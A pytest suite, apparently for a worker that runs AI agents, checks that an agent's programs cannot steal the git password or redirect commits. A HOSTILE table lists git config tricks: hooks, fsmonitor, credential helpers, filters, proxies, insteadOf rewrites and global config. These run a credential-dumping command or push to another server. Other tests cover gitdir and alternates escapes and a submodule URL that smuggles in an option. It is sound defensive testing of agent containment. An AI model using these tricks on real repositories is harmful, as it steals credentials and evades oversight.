"""Git in two halves: what an agent has set up, and the worker's own repository, which alone has the credential."""

from __future__ import annotations

import json
import os
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from conftest import StartWorker
from harness.git_server import GitServer, git
from harness.listener import Listener
from harness.operator import Operator

from codeforge_worker.confinement.order import Walls
from codeforge_worker.confinement.probe import kernel_of_this_machine
from codeforge_worker.confinement.reach import Granted, Reach
from codeforge_worker.credentials import Login
from codeforge_worker.git import GitError
from codeforge_worker.quarantine import Quarantine

PASSWORD = "s3cret word"
# $STEAL is a program that takes the credential, $OTHER somebody else's server, $OWN the task's.
HOOKS = (
    "for hook in pre-commit post-commit pre-push post-checkout reference-transaction post-index-change; do "
    "printf '#!/bin/sh\\n%s\\n' \"$STEAL\" >.git/hooks/$hook; chmod +x .git/hooks/$hook; done; "
    "git config core.hooksPath .git/hooks"
)
HOSTILE = {
    "insteadOf": "git config url.$OTHER.insteadOf $OWN",
    "pushInsteadOf": "git config url.$OTHER.pushInsteadOf $OWN",
    "pushurl": "git config remote.origin.pushurl $OTHER",
    "another remote": "git remote set-url origin $OTHER",
    "proxy": "git config http.proxy $OTHER; git config http.extraHeader 'X-Mine: 1'; git config http.sslVerify false",
    "monitor": 'git config core.fsmonitor "$STEAL"',
    "hooks": HOOKS,
    "credential helper": 'git config credential.helper "!$STEAL"; git config core.askPass "$STEAL"',
    "ssh": 'git config core.sshCommand "$STEAL"; git config url.ssh://h/.insteadOf $OWN',
    "filter": 'git config filter.own.clean "$STEAL; cat"; git config filter.own.required false; '
    "echo '* filter=own' >.git/info/attributes",
    "diff": 'git config diff.external "$STEAL"; git config diff.own.textconv "$STEAL"; '
    "echo '* diff=own' >.git/info/attributes",
    "trailers": 'for one in task attempt; do git config trailer.codeforge-$one.cmd "$STEAL; true"; done; '
    "git config trailer.ifexists replace; git config trailer.separators '#'",
    "signature": 'git config commit.gpgSign true; git config gpg.program "$STEAL"; git config gpg.format openpgp',
    "packing": 'git config uploadpack.packObjectsHook "$STEAL"; git config core.alternateRefsCommand "$STEAL"; '
    'git config core.pager "$STEAL"; git config core.editor "$STEAL"; git config gc.auto 1',
    "include": 'printf \'[core]\\n\\tfsmonitor = "%s"\\n[url "%s"]\\n\\tinsteadOf = %s\\n\' "$STEAL" $OTHER $OWN '
    ">../scratch/more; git config include.path ../../scratch/more",
    "of the user": 'git config --global core.fsmonitor "$STEAL"; git config --global credential.helper "!$STEAL"; '
    'git config --global url.$OTHER.insteadOf $OWN; git config --global uploadpack.packObjectsHook "$STEAL"; '
    "git config --global core.hooksPath $PWD/.git/hooks; git config --global user.name Mallory; "
    "echo machine 127.0.0.1 login mallory password wrong >$HOME/.netrc; " + HOOKS,
}


@dataclass
class Scene:
    server: GitServer
    other: Listener
    secret: Path
    # What a program of the agent's has taken.
    stolen: Path

    def settings(self, **more: str) -> dict[str, str]:
        credentials = [{"url": self.server.prefix, "path": str(self.secret)}]
        return {
            "CODEFORGE_GIT_CREDENTIALS": json.dumps(credentials),
            "CODEFORGE_AGENT_WRITES": "",
            "STEAL": f"(env; cat {self.secret}/password) >{self.stolen} 2>&1",
            "OTHER": self.other.prefix,
            "OWN": self.server.prefix,
        } | more

    def task(self, **more: Any) -> dict[str, Any]:
        return {"workspace": {"git": {"url": self.server.url, "push": {"branch": "b"}} | more}}


@pytest.fixture
async def scene(tmp_path: Path) -> AsyncIterator[Scene]:
    """A server that wants a password, which the worker has; and another that would like to."""
    server, other = GitServer(tmp_path), Listener()
    await server.start(password=PASSWORD)
    await other.start()
    secret = tmp_path / "secret"
    secret.mkdir()
    (secret / "username").write_text("agent")
    (secret / "password").write_text(PASSWORD)
    yield Scene(server, other, secret, tmp_path / "stolen")
    await other.stop()
    await server.stop()


@pytest.mark.parametrize("hostile", HOSTILE.values(), ids=HOSTILE)
async def test_no_setting_of_an_agents_leads_the_credential_or_the_commit_elsewhere(
    operator: Operator, start_worker: StartWorker, scene: Scene, hostile: str
) -> None:
    """Neither of what it has left, nor of what it has committed itself."""
    commit = 'test "$CODEFORGE_TITLE" = left || git -c user.name=A -c user.email=a@localhost commit -qam committed'
    await start_worker("sh", "-c", f"echo changed >file.txt; {commit}; {hostile}", **scene.settings())
    for title, author in (("left", "CodeForge"), ("committed", "A")):
        uid = await operator.submit(title=title, **scene.task(push={"branch": title}))
        last = (await operator.until(uid))[-1].body
        assert last["event"] == "completed", last["error"]
        told = last["result"]["git"]
        assert (told["pushed"], told["commit"]) == (True, scene.server.commit(title))
        assert last["files"] == ["file.txt"] and scene.server.content(title, "file.txt") == "changed"
        assert scene.server.show("%s %an", title) == f"{title} {author}"
        trailers = scene.server.show("%(trailers:only,unfold)", title).splitlines()
        assert trailers == [f"Codeforge-Task: {uid}", "Codeforge-Attempt: 1"]
    assert not scene.stolen.exists() and not scene.other.asked


async def test_an_agents_commit_cannot_pass_for_another_tasks(
    operator: Operator, start_worker: StartWorker, scene: Scene
) -> None:
    message = "mine\n\nCo-authored-by: B <b@localhost>\nCodeforge-Task: another\ncodeforge-attempt: 2\n"
    script = 'echo x >file.txt; git -c user.name=A -c user.email=a@localhost commit -qam "$MESSAGE"'
    await start_worker("sh", "-c", script, **scene.settings(MESSAGE=message))
    uid = await operator.submit(**scene.task())
    assert (await operator.until(uid))[-1].body["event"] == "completed"
    assert scene.server.show("%(trailers:only,unfold)", "b").splitlines() == [
        "Co-authored-by: B <b@localhost>", f"Codeforge-Task: {uid}", "Codeforge-Attempt: 1",
    ]  # fmt: skip


async def test_a_password_does_not_follow_a_redirection(
    operator: Operator, start_worker: StartWorker, scene: Scene
) -> None:
    moved = Listener(leads_to=scene.other.prefix.rstrip("/"))
    await moved.start()
    credentials = json.dumps([{"url": moved.prefix, "path": str(scene.secret)}])
    await start_worker("true", **scene.settings(CODEFORGE_GIT_CREDENTIALS=credentials))
    last = (await operator.until(await operator.submit(**scene.task(url=moved.url))))[-1].body
    await moved.stop()
    assert last["failure"]["type"] == "GitCloneFailed", last
    assert "the server redirects: give the URL that it leads to" in last["failure"]["message"]
    assert moved.credentials and not scene.other.asked


@pytest.mark.parametrize("isolation", ["Preferred", "Off"])
async def test_the_credential_is_not_there_while_an_agent_works(
    operator: Operator, start_worker: StartWorker, scene: Scene, isolation: str
) -> None:
    script = "env; cat .git/config; find .. -name 'login-*' -o -name askpass; echo x >file.txt"
    await start_worker("sh", "-c", script, **scene.settings(STEAL="", CODEFORGE_ISOLATION=isolation))
    url = scene.server.url.replace("//", "//agent:s3cret%20word@")
    last = (await operator.until(await operator.submit(**scene.task(url=url))))[-1].body
    assert last["event"] == "completed" and last["result"]["git"]["pushed"], last
    assert f'url = "{scene.server.url}"' in last["output"]
    for word in ("s3cret", "ASKPASS", "askpass", "login-"):
        assert word not in last["output"]


@pytest.mark.parametrize("isolation", ["Preferred", "Off"])
async def test_a_neighbours_repository_is_not_taken(
    operator: Operator, start_worker: StartWorker, scene: Scene, tmp_path: Path, isolation: str
) -> None:
    """Without walls it is, as is all else of a neighbour's."""
    neighbour = _neighbour(tmp_path)
    script = f"rm -rf .git; echo 'gitdir: {neighbour}/.git' >.git"
    await start_worker("sh", "-c", script, **scene.settings(CODEFORGE_ISOLATION=isolation))
    last = (await operator.until(await operator.submit(**scene.task())))[-1].body
    if isolation == "Off":
        assert last["event"] == "completed" and "private" in git(scene.server.bare, "log", "--format=%s", "b")
    else:
        assert "own commits were left out" in last["result"]["artifacts_problem"], last
        assert scene.server.branches() == ["main"]


def _neighbour(tmp_path: Path) -> Path:
    neighbour = tmp_path / "neighbour"
    git(tmp_path, "init", "--quiet", str(neighbour))
    (neighbour / "file").write_text("private\n")
    git(neighbour, "add", "--all")
    git(neighbour, "commit", "--quiet", "--message", "private")
    return neighbour


@pytest.mark.parametrize("trick", ["gitdir", "alternates", "link", "worktree"])
async def test_what_reads_an_agents_repository_for_the_worker_is_within_walls(
    scene: Scene, tmp_path: Path, trick: str
) -> None:
    """Such a repository need not come from git: an agent writes it file by file."""
    neighbour = _neighbour(tmp_path)
    agents = tmp_path / "agents"
    git(tmp_path, "init", "--quiet", str(agents))
    inner = agents / ".git"
    if trick == "gitdir":
        inner.rename(tmp_path / "away")
        inner.write_text(f"gitdir: {neighbour}/.git\n")
    elif trick == "link":
        inner.rename(tmp_path / "away")
        inner.symlink_to(neighbour / ".git")
    elif trick == "worktree":
        (inner / "commondir").write_text(f"{neighbour}/.git\n")
        (inner / "HEAD").write_text(git(neighbour, "rev-parse", "HEAD") + "\n")
    else:
        (inner / "objects/info/alternates").write_text(f"{neighbour}/.git/objects\n")
        (inner / "HEAD").write_text(git(neighbour, "rev-parse", "HEAD") + "\n")
    with pytest.raises(GitError):
        await (await _quarantine(tmp_path / "walled")).take(agents, _walls(tmp_path, agents))
    open_one = await _quarantine(tmp_path / "open")
    await open_one.take(agents, None)
    assert "private" in await open_one.local.git("show", "result:file")


def _walls(hidden: Path, own: Path) -> Walls:
    kernel = kernel_of_this_machine()
    reach = Reach.of(kernel, Granted(), (hidden,), open_network=False, is_alone=True, in_worker=False)
    return reach.walls_of_git(own)


async def _quarantine(folder: Path) -> Quarantine:
    quarantine = Quarantine(folder, {"PATH": os.environ["PATH"]}, Login((), "https://h/demo.git"))
    quarantine.make()
    return quarantine


async def test_a_commit_that_would_harm_whoever_clones_it_is_refused(
    operator: Operator, start_worker: StartWorker, scene: Scene
) -> None:
    modules = '[submodule "x"]\\n\\tpath = x\\n\\turl = -u./harm\\n'
    await start_worker("sh", "-c", f"printf '{modules}' >.gitmodules", **scene.settings())
    last = (await operator.until(await operator.submit(**scene.task())))[-1].body
    assert last["failure"]["type"] == "InternalError" and "gitmodules" in last["failure"]["message"], last
    assert scene.server.branches() == ["main"]


async def test_a_history_that_an_agent_has_rewritten_is_pushed(
    operator: Operator, start_worker: StartWorker, scene: Scene
) -> None:
    script = "git checkout -q --orphan new; echo x >file.txt; git add -A; git commit -qm mine; echo more >more.txt"
    identity = {f"GIT_{who}_{what}": "a@localhost" for who in ("AUTHOR", "COMMITTER") for what in ("NAME", "EMAIL")}
    await start_worker("sh", "-c", script, **scene.settings(**identity))
    last = (await operator.until(await operator.submit(**scene.task())))[-1].body
    assert last["event"] == "completed" and last["result"]["git"]["pushed"], last["error"]
    assert git(scene.server.bare, "rev-list", "--count", "b") == "2" and last["files"] == ["file.txt", "more.txt"]


@pytest.mark.parametrize("then", ["true", "echo more >more.txt", "AMEND"], ids=["alone", "and more", "and amended"])
async def test_what_an_agent_has_pushed_itself_is_beneath_the_workers_commit(
    operator: Operator, start_worker: StartWorker, repository: GitServer, then: str
) -> None:
    """It can where it has no walls, and the server asks for no password."""
    commit = "git -c user.name=A -c user.email=a@localhost commit -qam mine"
    script = f"echo mine >file.txt; {commit}; git push -q origin HEAD:refs/heads/b; {then}"
    await start_worker("sh", "-c", script.replace("AMEND", f"{commit} --amend -m again"), CODEFORGE_ISOLATION="Off")
    uid = await operator.submit(workspace={"git": {"url": repository.url, "push": {"branch": "b"}}})
    last = (await operator.until(uid))[-1].body
    assert last["event"] == "completed", last["error"]
    assert last["result"]["git"]["pushed"] and last["result"]["git"]["commit"] == repository.commit("b")
    assert f"Codeforge-Task: {uid}" in repository.message("b") and repository.show("%s", "b^") == "mine"


@pytest.mark.parametrize("work", ["committed", "left"])
async def test_a_tag_that_an_agent_has_made_stays_with_it(
    operator: Operator, start_worker: StartWorker, scene: Scene, work: str
) -> None:
    """Also one that git would push along, and one by the name of a branch, of HEAD or of a tag of the server's."""
    as_agent = "git -c user.name=A -c user.email=a@localhost"
    commit = f"{as_agent} commit -qam mine" if work == "committed" else "true"
    annotated = f"{as_agent} tag -a v2 -m two"
    tags = "for tag in b main v1 HEAD; do git update-ref refs/tags/$tag HEAD; done"
    follow = "git config push.followTags true; git config remote.origin.push '+refs/tags/*:refs/tags/*'"
    await start_worker("sh", "-c", f"echo mine >file.txt; {annotated}; {commit}; {tags}; {follow}", **scene.settings())
    before = git(scene.server.bare, "show-ref", "--tags")
    uid = await operator.submit(**scene.task())
    last = (await operator.until(uid))[-1].body
    assert last["event"] == "completed", last["error"]
    head = git(scene.server.bare, "rev-parse", "refs/heads/b")
    assert last["result"]["git"]["pushed"] and last["result"]["git"]["commit"] == head
    assert last["files"] == ["file.txt"] and scene.server.content("b", "file.txt") == "mine"
    assert git(scene.server.bare, "show-ref", "--tags") == before
    assert "artifacts_problem" not in last["result"], last["result"]
